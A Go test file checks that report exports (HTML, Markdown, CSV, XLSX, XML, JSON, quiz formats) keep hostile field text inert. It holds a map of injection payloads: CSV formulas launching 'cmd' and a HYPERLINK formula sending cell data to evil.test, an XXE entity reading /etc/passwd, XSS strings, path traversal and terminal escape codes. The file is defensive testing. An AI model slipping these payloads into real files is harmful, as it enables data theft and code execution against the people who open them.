package reports

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"golang.org/x/net/html"

	"counterclaim/compare"
	"counterclaim/nlp"
	"counterclaim/nlp/syntax"
	"counterclaim/reports/exercise"
	"counterclaim/reports/internal/fixture"
	"counterclaim/reports/quiz"
	"counterclaim/reports/wording"
)

// hostile are texts that are code to what reads our formats.
var hostile = map[string]string{
	"all at once": fixture.Payload,
	"formula":     `=HYPERLINK("http://evil.test?x="&A1,"words")`,
	"formula @":   `@SUM(1+1)*cmd|' /C calc'!A0`,
	"formula +":   `+1+cmd|' /C calc'!A0`,
	"formula -":   `-2+3`,
	"XML":         `]]></p></text><injected a="b"/><!-- --><![CDATA[x]]>&xxe;<?php x ?> words`,
	"DOCTYPE":     `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe; words`,
	"attribute":   `" onmouseover="alert(1)" x='y' words`,
	"address":     `javascript:alert(1)//words`,
	"LaTeX":       `\input{/etc/passwd} $x$ % & # _ ^ ~ } \end{document} words`,
	"GIFT":        `::t:: q {=right ~wrong #note -> y} $CATEGORY: x [html] // words`,
	"lines":       "words\r\nT99\tClaim 0 1\tx\n# sent_id = 1\n1\ta\ta\n\n\n::x:: words\u2028more\u0085words",
	"JSON":        `","@id":"http://evil.test","@type":"Person"}]} words`,
	"escapes":     "\x1b]8;;http://evil.test\x07words\x1b]8;;\x07 \x1b[2J\x1b[31m\u009b2J\x9b2J \u202ewords\u2066\u200f",
	"templates":   `{{.}} ${x} #{x} <%= x %> {% x %} words`,
	"path":        `../../../etc/passwd`,
	"Markdown":    "[words](javascript:alert(1)) ![x](http://evil.test) `x` | x | ~~x~~ <https://evil.test> www.evil.test a@evil.test",
	"fence":       "~~~ words",
	"heading":     "# words",
	"list":        "1. words",
	"list )":      "1) words",
	"list -":      "- words",
	"list +":      "+ words",
}

// harmless stands in the same places as a hostile text, to see what a format
// looks like without.
const harmless = "plain words"

// full is a case in which every text of the model holds something.
func full() *compare.Result {
	r := fixture.Ferry()
	at := time.Date(2031, 10, 1, 12, 0, 0, 0, time.UTC)
	for i := range r.Case.Parties {
		p := &r.Case.Parties[i]
		p.Aliases = append(p.Aliases, "an alias")
		for _, d := range p.Statements {
			d.Author, d.Address = "an author", "https://statements.test/"+d.Path
			for n, b := range d.Blocks {
				if b.End > b.Start {
					d.Sentences = append(d.Sentences, nlp.Sentence{Start: b.Start, End: b.End, Block: n, Tokens: syntax.Tokenize(d.Text[b.Start:b.End], b.Start)})
				}
			}
		}
	}
	decided := func(by compare.By) *compare.Decided {
		return &compare.Decided{By: by, Name: "a decider", Note: "a note", Time: at, Own: &compare.Verdict{Relation: compare.Agree, Kind: compare.Same, Score: 0.5}}
	}
	r.Pairs[0].Decided, r.Pairs[1].Decided = decided(compare.Person), decided(compare.Model)
	r.Claims[0].Decided = decided(compare.Person)
	r.Claims[2].Sources = []string{"a source"}
	r.Overruled = []compare.Pair{r.Pairs[1]}
	r.Judges = []compare.Judge{{By: compare.Model, Name: "a model", First: at, Last: at, Asked: 3, Answered: 2}, {By: compare.Person, Name: "a decider"}}
	return r
}

// fields calls f with every open text below v: plain strings. Words of a
// closed list have types of their own.
func fields(v reflect.Value, path string, f func(path string, v reflect.Value)) {
	switch v.Kind() {
	case reflect.String:
		if v.Type() == reflect.TypeFor[string]() {
			f(path, v)
		}
	case reflect.Pointer:
		if !v.IsNil() {
			fields(v.Elem(), path, f)
		}
	case reflect.Slice:
		for i := range v.Len() {
			fields(v.Index(i), path+"[]", f)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if field := v.Type().Field(i); field.IsExported() {
				fields(v.Field(i), strings.TrimPrefix(path+"."+field.Name, "."), f)
			}
		}
	default: // numbers
	}
}

// fixed are the texts that are not a writer's to choose: ids are of a-z, 0-9
// and hyphens, and what a claim, a word or a value says is what stands at its
// offsets, which TestQuotesAreInert covers.
var fixed = regexp.MustCompile(`\.(ID|Text)$`)

// places lists the first place of every text of r: by its path, the first
// that holds something, or else the first.
func places(r *compare.Result) (paths []string, at map[string]reflect.Value) {
	at = map[string]reflect.Value{}
	fields(reflect.ValueOf(r), "", func(path string, v reflect.Value) {
		if fixed.MatchString(path) {
			return
		}
		old, known := at[path]
		if !known {
			paths = append(paths, path)
		}
		if !known || old.String() == "" && v.String() != "" {
			at[path] = v
		}
	})
	return paths, at
}

// spoiled is the full case with the text in every place, each with a number of
// its own behind it.
//
// The options hold it too, and so do a person's ratings; they come last.
func spoiled(text string) (r *compare.Result, o Options, paths, texts []string) {
	r = full()
	paths, at := places(r)
	for i, path := range paths {
		texts = append(texts, fmt.Sprintf("%s f%02d", text, i))
		at[path].SetString(texts[i])
	}
	text += " here"
	return r, Options{
		Width: 100, Version: text, Settings: []Setting{{Name: "setting", Value: text}},
		Ratings: []Rating{{Party: "line", Quote: "The weather alone caused the grounding", Rating: text, Reviewer: text, Address: "https://facts.test/?q=" + text, Explanation: text}},
	}, append(paths, "Options"), append(texts, text)
}

// shape is what a program sees in a file apart from its texts, and the texts.
type shape struct {
	parts []string
	text  strings.Builder
	said  string // the texts, squeezed
}

// add notes a part; the same part several times in a row counts once, as a
// longer text may take more lines.
func (s *shape) add(format string, args ...any) {
	part := fmt.Sprintf(format, args...)
	if n := len(s.parts); n == 0 || s.parts[n-1] != part {
		s.parts = append(s.parts, part)
	}
}

func (s *shape) say(text string) { s.text.WriteString(text + " ") }

// says reports whether the texts hold the words of a text, in order.
func (s *shape) says(text string) bool {
	if s.said == "" {
		s.said = wording.Clean(s.text.String())
	}
	return strings.Contains(s.said, wording.Clean(text))
}

func (s *shape) html(data []byte) error {
	doc, err := html.Parse(bytes.NewReader(data))
	if err != nil {
		return err
	}
	for n := range doc.Descendants() {
		switch n.Type {
		case html.TextNode:
			s.say(n.Data)
		case html.ElementNode:
			var names []string
			for _, a := range n.Attr {
				names = append(names, a.Key)
				s.say(a.Val)
				switch a.Key {
				case "href", "src", "action", "xlink:href":
					if a.Val != "" && !strings.HasPrefix(a.Val, "#") {
						s.add("address %s", a.Val)
					}
				}
			}
			if n.Data != "wbr" && n.Data != "tspan" {
				s.add("<%s %s>", n.Data, strings.Join(names, " "))
			}
		case html.CommentNode, html.DoctypeNode:
			s.add("<!%s>", n.Data)
		case html.ErrorNode, html.DocumentNode, html.RawNode:
		}
	}
	return nil
}

func (s *shape) markdown(data []byte) error {
	var page bytes.Buffer
	if err := goldmark.New(goldmark.WithExtensions(extension.GFM)).Convert(data, &page); err != nil {
		return err
	}
	return s.html(page.Bytes())
}

func (s *shape) xml(data []byte) error {
	d := xml.NewDecoder(bytes.NewReader(data))
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return nil
		}
		if err != nil {
			return err
		}
		switch token := token.(type) {
		case xml.StartElement:
			var names []string
			for _, a := range token.Attr {
				names = append(names, a.Name.Local)
				s.say(a.Value)
			}
			s.add("<%s %s>", token.Name.Local, strings.Join(names, " "))
		case xml.CharData:
			s.say(string(token))
			if text := strings.TrimSpace(string(token)); strings.HasPrefix(text, "<p>") { // HTML in Moodle XML
				if err := s.html(token); err != nil {
					return err
				}
			}
		case xml.ProcInst, xml.Directive, xml.Comment:
			s.add("%T", token)
		case xml.EndElement:
		}
	}
}

func (s *shape) json(data []byte) error {
	var v any
	if err := json.Unmarshal(data, &v); err != nil {
		return err
	}
	var walk func(any)
	walk = func(v any) {
		switch v := v.(type) {
		case map[string]any:
			var keys []string
			for k := range v {
				keys = append(keys, k)
			}
			slices.Sort(keys)
			s.add("{%s}", strings.Join(keys, " "))
			for _, k := range keys {
				walk(v[k])
			}
		case []any:
			s.add("[%d]", len(v))
			for _, e := range v {
				walk(e)
			}
		case string:
			s.say(v)
		default:
			s.add("%T", v)
		}
	}
	walk(v)
	return nil
}

func (s *shape) csv(data []byte) error {
	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	for _, record := range records {
		s.parts = append(s.parts, fmt.Sprintf("record of %d", len(record)))
		for _, cell := range record {
			s.say(cell)
			if strings.ContainsAny(cell[:min(len(cell), 1)], "=+-@\t\r") {
				s.add("formula %s", cell)
			}
		}
	}
	return err
}

// lines is for formats of lines: each is a part, by what the format makes of
// its beginning.
func (s *shape) lines(data []byte, kind func(line string) string) {
	for line := range strings.Lines(string(data)) {
		s.say(line + " ")
		if k := kind(strings.TrimSuffix(line, "\n")); k != "" {
			s.add("%s", k)
		}
	}
}

func conlluLine(line string) string {
	if name, _, ok := strings.Cut(line, " = "); ok && strings.HasPrefix(line, "#") {
		return name
	}
	return fmt.Sprintf("%d columns", strings.Count(line, "\t"))
}

var annotation = regexp.MustCompile(`^([A-Z#]+)\d+\t(\w+)( |\t)`)

func bratLine(line string) string {
	if m := annotation.FindStringSubmatch(line); m != nil {
		return m[1] + " " + m[2]
	}
	return "?"
}

var giftCode = regexp.MustCompile(`\\.|[{}=~#:]|^=.*->`)

// giftLine is the code of a line of GIFT: its marks that are not escaped.
func giftLine(line string) string {
	for _, start := range []string{"//", "$CATEGORY: "} {
		if strings.HasPrefix(line, start) { // the line has no code but this
			return start
		}
	}
	var code []string
	for _, m := range giftCode.FindAllString(line, -1) {
		if m[0] != '\\' {
			code = append(code, m)
		}
	}
	return strings.Join(code, " ")
}

func (s *shape) archive(data []byte) error {
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		return err
	}
	names := map[string]bool{}
	for _, f := range z.File {
		if !filepath.IsLocal(f.Name) || strings.ContainsAny(f.Name, "\\:\n") || names[f.Name] {
			return fmt.Errorf("bad name of a member: %q", f.Name)
		}
		names[f.Name] = true
		r, err := f.Open()
		if err != nil {
			return err
		}
		member, err := io.ReadAll(r)
		if err != nil {
			return err
		}
		s.parts = append(s.parts, "member "+filepath.Ext(f.Name))
		if err := s.read(strings.TrimPrefix(filepath.Ext(f.Name), "."), member); err != nil {
			return fmt.Errorf("%s: %w", f.Name, err)
		}
	}
	return nil
}

func (s *shape) workbook(data []byte) error {
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		return err
	}
	defer f.Close()
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			return err
		}
		for y, row := range rows {
			for x := range row {
				name, _ := excelize.CoordinatesToCellName(x+1, y+1)
				if formula, err := f.GetCellFormula(sheet, name); err != nil || formula != "" {
					return fmt.Errorf("%s %s is the formula %q, %w", sheet, name, formula, err)
				}
			}
		}
	}
	return s.archive(data)
}

// read takes a file of a format apart with a reader that is not ours.
func (s *shape) read(format string, data []byte) error {
	switch format {
	case HTML:
		return s.html(data)
	case Markdown:
		return s.markdown(data)
	case CSV:
		return s.csv(data)
	case JSON, Annotations, SchemaOrg:
		return s.json(data)
	case GraphML, TEI, quiz.Moodle, "xml", "rels", "qde", "rdf":
		return s.xml(data)
	case XLSX:
		return s.workbook(data)
	case DOCX, ODT, Brat, DataPackage, QDA, quiz.QTI:
		return s.archive(data)
	case CoNLLU:
		s.lines(data, conlluLine)
	case "ann":
		s.lines(data, bratLine)
	case quiz.GIFT:
		s.lines(data, giftLine)
	default: // text: of the terminal, of a member of an archive
		s.say(string(data))
	}
	return nil
}

// controls are what a terminal or a program that shows text may act on.
func controls(data []byte) string {
	for _, c := range string(data) {
		if c < 0x20 && c != '\n' && c != '\t' && c != '\r' || c >= 0x7f && c < 0xa0 || c >= 0x202a && c <= 0x202e || c >= 0x2066 && c <= 0x2069 {
			return fmt.Sprintf("%U", c)
		}
	}
	return ""
}

func shapeOf(t *testing.T, format string, data []byte) *shape {
	t.Helper()
	s := &shape{}
	if err := s.read(format, data); err != nil {
		t.Errorf("%s cannot be read: %v", format, err)
	}
	return s
}

// same compares a file that holds hostile texts with the same file with
// harmless ones, and reports whether it holds each.
func same(t *testing.T, format string, plain *shape, data []byte, harmless, texts []string) []bool {
	t.Helper()
	s := shapeOf(t, format, data)
	if diff := cmp.Diff(plain.parts, s.parts); diff != "" {
		t.Errorf("%s: the text changes more than text:\n%s", format, diff)
	}
	var held []bool
	for i, text := range texts {
		held = append(held, plain.says(harmless[i]))
		if held[i] && !s.says(text) {
			t.Errorf("%s: %q is not read back", format, text)
		}
	}
	if format == Table || format == Markdown || format == CSV || format == CoNLLU || format == quiz.GIFT {
		if c := controls(data); c != "" {
			t.Errorf("%s holds %s", format, c)
		}
	}
	return held
}

// Whatever text of the model is hostile, in whatever format: what reads the
// file sees the same elements, records and keys as with a harmless text, and
// reads the text back. Run with -v for the table of fields and formats.
func TestFieldsAreInert(t *testing.T) {
	var table strings.Builder
	r, o, paths, plainTexts := spoiled(harmless)
	if len(paths) < 25 {
		t.Fatalf("only %d texts: %v", len(paths), paths)
	}
	in := make([][]string, len(paths))
	for _, format := range Formats {
		plain := shapeOf(t, format, write(t, r, format, o))
		var held []bool
		for name, text := range hostile {
			t.Run(format+"/"+name, func(t *testing.T) {
				r, o, _, texts := spoiled(text)
				held = same(t, format, plain, write(t, r, format, o), plainTexts, texts)
			})
		}
		for i := range held {
			if held[i] {
				in[i] = append(in[i], format)
			}
		}
	}
	for i, path := range paths {
		fmt.Fprintf(&table, "%-60s %s\n", path, strings.Join(in[i], " "))
	}
	t.Logf("%d hostile texts in %d fields, and the formats that hold each:\n%s", len(hostile), len(paths), &table)
}

// quoting is a case in which every text is the one given, the words of the
// statements and of the claims too.
func quoting(text string) *compare.Result {
	r := fixture.Quoting(text)
	for _, p := range r.Case.Parties {
		for _, d := range p.Statements {
			d.Sentences = []nlp.Sentence{{End: len(d.Text), Tokens: syntax.Tokenize(d.Text, 0)}}
		}
	}
	return r
}

func TestQuotesAreInert(t *testing.T) {
	for _, format := range Formats {
		plain := shapeOf(t, format, write(t, quoting(harmless), format, Options{Width: 100}))
		if format != GraphML && format != SchemaOrg && !plain.says(harmless) {
			t.Errorf("%s does not hold what is said", format)
		}
		for name, text := range hostile {
			t.Run(format+"/"+name, func(t *testing.T) {
				same(t, format, plain, write(t, quoting(text), format, Options{Width: 100}), []string{harmless}, []string{text})
			})
		}
	}
}

// The same for exercises. Which questions there are depends on the words, so
// that only what kinds of parts there are is compared.
func TestExercisesAreInert(t *testing.T) {
	kinds := func(s *shape) []string {
		slices.Sort(s.parts)
		return slices.Compact(s.parts)
	}
	for _, style := range exercise.Styles()[:2] {
		made := func(t *testing.T, text string) *exercise.Exercise {
			e, err := exercise.New(fixture.Quoting(text), exercise.Options{Style: style, MinScore: 0.1})
			if err != nil {
				t.Fatal(err)
			}
			return e
		}
		for part, out := range map[string]struct {
			write   func(*exercise.Exercise, io.Writer, string) error
			formats []string
		}{
			"paper": {(*exercise.Exercise).WritePaper, exercise.Formats},
			"key":   {(*exercise.Exercise).WriteKey, exercise.Formats},
			"quiz":  {(*exercise.Exercise).WriteQuiz, quiz.Formats},
		} {
			for _, format := range out.formats {
				file := func(t *testing.T, text string) []byte {
					var b bytes.Buffer
					if err := out.write(made(t, text), &b, format); err != nil {
						t.Fatal(err)
					}
					return b.Bytes()
				}
				plain := kinds(shapeOf(t, format, file(t, harmless)))
				for name, text := range hostile {
					t.Run(style+"/"+part+"/"+format+"/"+name, func(t *testing.T) {
						s := shapeOf(t, format, file(t, text))
						for _, part := range kinds(s) {
							if !slices.Contains(plain, part) {
								t.Errorf("new part %q", part)
							}
						}
						if !s.says(text) && format != quiz.GIFT { // which escapes
							t.Error("the text is not read back")
						}
					})
				}
			}
		}
	}
}
